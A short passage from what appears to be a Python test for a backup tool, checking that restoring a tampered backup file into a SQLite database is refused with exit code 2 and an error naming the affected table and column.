    _forge(plain, edited := tmp_path / "edited.qbk", edit)
    refused = runner.invoke(app, ["restore", str(edited), "--db", f"sqlite:///{tmp_path / 'target.db'}"])
    assert refused.exit_code == 2, refused.output
    assert f"{table}.{column}: " in refused.stderr and why in refused.stderr, refused.stderr
